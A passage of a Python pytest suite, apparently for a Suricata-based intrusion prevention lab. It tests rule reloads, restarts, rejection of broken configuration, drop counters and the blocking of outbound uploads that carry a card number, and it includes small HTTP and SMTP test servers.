        assert (answer["action"], answer["rules_failed"], answer["digest"]) == ("reload", 0, ips_digest(changed))
        client.sendall(b"after!")
        assert receive(server, 6) == b"after!"
        client.sendall(b"secret")
        server.settimeout(1)
        with pytest.raises(TimeoutError):
            receive(server, 6)
    assert own.load(changed)["action"] == "none"


def test_a_zone_that_changes_its_addresses_is_known_after_a_live_load(own: IpsLab) -> None:
    """Variables are loaded with the rules."""
    moved = {
        path: content.replace(str(DESIGN.zone("app").prefix4).encode(), b"192.0.2.0/24") for path, content in ips_files(DESIGN).items()
    }
    own.load(moved)
    assert own.tcp(API[0], OUTSIDE4, 8000, upload(CARD.encode())).arrived
    assert own.load(ips_files(DESIGN))["action"] == "reload"
    assert is_stopped(own.tcp(API[0], OUTSIDE4, 8000, upload(CARD.encode())))


def test_a_revoked_exception_ends_on_open_connections_too(own: IpsLab) -> None:
    own.load(ips_files(with_detectors(DESIGN, replace(CARDS, excepted=("parcels", "acquirer")))))
    with own.connection(API[0], OUTSIDE4, 80) as (client, server):
        client.sendall(CARD.encode())
        assert receive(server, 16) == CARD.encode()
        own.load(ips_files(DESIGN))
        client.sendall(b" " + CARD.encode())
        server.settimeout(1)
        with pytest.raises(TimeoutError):
            receive(server, 17)


def test_a_restart_drops_the_connections_of_before(own: IpsLab) -> None:
    """They are in mid-stream for the new process, which has not seen what they carried."""
    files = ips_files(DESIGN)
    own.load(files)
    with own.connection(WEB[0], OUTSIDE4, 8000) as (client, server):
        other = {**files, f"{FOLDER}/suricata.yaml": files[f"{FOLDER}/suricata.yaml"] + b"# changed\n"}
        assert own.load(other)["action"] == "restart"
        client.sendall(b"still there?")
        server.settimeout(1)
        with pytest.raises(TimeoutError):
            receive(server, 1)
    assert own.tcp(WEB[0], OUTSIDE4, 8000, b"a new one").arrived


@pytest.mark.parametrize("broken", ["rules/attacks.rules", "lua/card-number-buffer.lua", "suricata.yaml"])
def test_refused_files_change_nothing(own: IpsLab, broken: str) -> None:
    """Neither while it runs nor at the first start; the reason is told."""
    files = ips_files(DESIGN)
    bad = {**files, f"{FOLDER}/{broken}": b"drop nonsense here\n"}
    with pytest.raises(AssertionError, match=r"\w"):
        own.load(bad)
    assert own.report()["running"] is False
    own.load(files)
    with pytest.raises(AssertionError, match=r"\w"):
        own.load(bad)
    report = own.report()
    assert (report["running"], report["digest"]) == (True, ips_digest(files))
    assert is_stopped(own.tcp(API[0], OUTSIDE4, 8000, upload(CARD.encode())))
    assert not own.path(f"{FOLDER}.new").exists()


def test_the_report_counts_what_was_dropped(own: IpsLab) -> None:
    own.load(ips_files(DESIGN))
    assert is_stopped(own.tcp(API[0], OUTSIDE4, 8000, upload(CARD.encode())))
    deadline = time.monotonic() + 10
    while not (counters := own.report()["counters"]) or not counters["message"]["ips"]["blocked"]:  # type: ignore[index]
        assert time.monotonic() < deadline
        time.sleep(0.5)
    assert counters["message"]["capture"]["kernel_drops"] == 0  # type: ignore[index]
    events = own.chroot("/usr/lib/vcloud/ips-report", "events", "5").stdout.decode().splitlines()
    assert 0 < len(events) <= 5
    assert all(event.startswith('{"timestamp"') for event in events)


def test_a_full_disk_stops_the_log_and_not_the_protection(own: IpsLab) -> None:
    own.ips.run("mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(own._root / "var/log/suricata"))
    own.load(ips_files(DESIGN))
    own.path("/var/log/suricata/filler").write_bytes(b"x" * 40_000)
    for _ in range(60):
        own.udp(API[0], OUTSIDE4, 9000, b"fine")
        with own.connection(API[0], OUTSIDE4, 8000) as (client, server):
            client.sendall(upload(CARD.encode()))
            server.settimeout(0.1)
            with pytest.raises(TimeoutError):
                receive(server, 1)
    assert own.tcp(API[0], OUTSIDE4, 8000, upload(NO_CARD.encode())).arrived


def test_flows_that_change_change_the_exceptions_live(own: IpsLab) -> None:
    own.load(ips_files(DESIGN))
    wider = with_flows(DESIGN, FLOWS.replace("tcp/443", "tcp/8000-8100 tcp/443"))
    assert own.load(ips_files(wider))["action"] == "reload"
    assert own.tcp(API[0], OUTSIDE4, 8050, upload(CARD.encode())).arrived
    assert is_stopped(own.tcp(API[0], OUTSIDE4, 8200, upload(CARD.encode())))


# --- servers


@contextlib.contextmanager
def http_server(where: Machine, address: str) -> Iterator[int]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            text = f"got {len(self.rfile.read(int(self.headers['Content-Length'])))}".encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(text)))
            self.end_headers()
            self.wfile.write(text)

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.HTTPServer((address, 0), Handler, bind_and_activate=False)
    server.socket.close()
    server.socket = where.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.server_bind()
    server.server_activate()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()
    server.server_close()


@contextlib.contextmanager
def mail_server(where: Machine, address: str) -> Iterator[tuple[int, list[bytes]]]:
    """Takes one mail."""
    mails: list[bytes] = []
    with where.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind((address, 0))
        listener.listen()
        thread = threading.Thread(target=_take_mail, args=(listener, mails))
        thread.start()
        yield listener.getsockname()[1], mails
        thread.join(timeout=10)


def _take_mail(listener: socket.socket, mails: list[bytes]) -> None:
    connection, _ = listener.accept()
    connection.settimeout(2)
    with connection, connection.makefile("rwb") as stream, contextlib.suppress(OSError):
        stream.write(b"220 mail.example ESMTP\r\n")
        stream.flush()
        for line in stream:
            word = line.split()[0].upper()
            stream.write(b"354 go on\r\n" if word == b"DATA" else b"221 bye\r\n" if word == b"QUIT" else b"250 ok\r\n")
            stream.flush()
            if word == b"DATA":
                mail = b"".join(iter(stream.readline, b".\r\n"))
                mails.append(mail)
                stream.write(b"250 taken\r\n")
                stream.flush()


def send_mail(lab: IpsLab, source: str, port: int, mail: bytes) -> None:
    raw = lab.machine(source).socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.settimeout(2)
    raw.connect((OUTSIDE4, port))

    class Client(smtplib.SMTP):
        def _get_socket(self, *_: object) -> socket.socket:  # the library offers no other way to bring a socket
            return raw

    with Client(OUTSIDE4, port, local_hostname="api.example") as client:
        client.sendmail("a@example", ["b@example"], mail)
